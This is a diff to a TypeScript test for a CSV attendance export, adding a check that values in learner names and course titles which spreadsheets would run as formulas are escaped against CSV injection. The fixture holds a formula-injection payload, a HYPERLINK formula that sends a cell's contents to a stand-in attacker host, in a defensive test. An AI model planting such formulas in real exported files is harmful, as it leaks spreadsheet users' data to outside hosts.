@@ -183,7 +183,22 @@ describe('buildAttendanceCsv', () => {
       'Session,SQL for analysts,,SQL for analysts,2026-10-05,2,3,5,6,83',
       'Learner,عائشة السليطي,aisha@qad.test,,,,3,3,3,100',
       'Learner,"Khalid ""KM"" Al-Marri, Jr.",khalid@qad.test,,,,3,2,3,67',
+      '',
     ]);
     expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+  });
+
+  it('neutralises a learner name and a course title that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+    const evil = '=HYPERLINK("https://evil.example/?d="&C3,"Open")';
+    const data: CompanyAttendanceAnalytics = {
+      ...figures,
+      sessions: [{ ...figures.sessions[0], courseTitle: '+SUM(1,2)' }],
+      learners: [{ ...figures.learners[0], learner: { id: 23, name: evil, pictureUrl: null }, email: '@evil.example' }],
+    };
+    const lines = buildAttendanceCsv(data, labels).text.slice(1).split('\r\n');
+    expect(lines[1]).toBe(`Session,"'+SUM(1,2)",,"'+SUM(1,2)",2026-10-05,2,3,5,6,83`);
+    expect(lines[2]).toBe(`Learner,"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")",'@evil.example,,,,3,3,3,100`);
+    // No cell of the file starts with a formula character.
+    for (const line of lines) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
